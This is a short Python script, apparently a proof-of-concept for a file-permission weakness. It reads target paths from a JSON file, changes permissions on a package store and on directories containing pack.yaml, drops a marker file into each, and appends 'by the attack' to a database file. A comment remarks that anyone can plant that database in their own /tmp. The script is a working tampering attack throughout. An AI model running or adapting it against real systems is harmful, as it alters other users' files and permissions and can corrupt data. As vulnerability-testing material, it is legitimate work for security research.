#!/usr/bin/env python3
import json
import os
from pathlib import Path

TARGETS = json.loads(Path('targets.json').read_text())

for path in (TARGETS["store"], *map(os.path.dirname, Path(TARGETS["store"]).rglob("pack.yaml"))):
    try:
        os.chmod(path, 0o700)
        (Path(path) / "written").write_text("by the attack")
        print("REACHED", path)
    except OSError as refused:
        print("refused:", refused)
try:
    with open(TARGETS["database"], "r+b") as file:  # it has to be there: anyone may make one in a /tmp of their own
        file.seek(0, os.SEEK_END)
        file.write(b"by the attack")
        print("REACHED", TARGETS["database"])
except OSError as refused:
    print("refused:", refused)
